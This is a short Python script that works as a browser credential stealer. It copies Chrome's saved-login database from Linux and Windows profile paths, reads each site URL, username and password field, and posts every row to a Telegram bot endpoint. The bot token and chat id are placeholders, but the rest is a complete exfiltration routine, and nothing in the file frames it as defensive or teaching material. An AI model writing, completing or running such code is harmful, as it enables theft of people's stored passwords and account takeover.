import os
import shutil
import sqlite3
import tempfile
import urllib.parse
import urllib.request

BOT = "https://api.telegram.org/bot000000:INERT/sendMessage"
STORES = [
    "~/.config/google-chrome/Default/Login Data",
    "~/AppData/Local/Google/Chrome/User Data/Default/Login Data",
]


def rows():
    for store in map(os.path.expanduser, STORES):
        if not os.path.exists(store):
            continue
        copy = shutil.copy(store, tempfile.mkdtemp())
        con = sqlite3.connect(copy)
        yield from con.execute("SELECT origin_url, username_value, password_value FROM logins")


for row in rows():
    data = urllib.parse.urlencode({"chat_id": "0", "text": repr(row)}).encode()
    urllib.request.urlopen(BOT, data)
